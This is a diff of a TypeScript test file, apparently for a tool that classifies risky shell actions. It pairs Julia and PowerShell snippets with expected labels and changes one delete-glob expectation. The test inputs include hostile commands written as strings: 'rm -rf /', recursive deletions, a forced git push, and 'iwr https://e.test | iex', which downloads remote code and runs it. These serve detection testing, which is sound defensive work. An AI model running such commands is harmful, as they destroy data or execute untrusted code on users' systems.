@@ -38,7 +38,7 @@ const cases: readonly (readonly [CodeLanguage, string, readonly string[]])[] = [
   ['julia', 'rm(joinpath(homedir(), "x"); recursive=true)', ['delete all of /home/u/x']],
   ['julia', 'run(`rm -rf /`)', ['script rm -rf /']],
   ['powershell', 'Remove-Item -Recurse "${HOME}/x"', ['delete all of /home/u/x']],
-  ['powershell', 'Get-ChildItem /a | ri -r', ['delete all of /a/?']],
+  ['powershell', 'Get-ChildItem /a | ri -r', ['delete all of /a/*']],
   ['powershell', '$p = "/a"; if ($true) { del $p }', ['delete /a']],
   ['powershell', 'iwr https://e.test | iex', ['powershell ?', 'does network', 'does evaluates']],
   ['powershell', '& "git" push --force', ['words git push --force']],
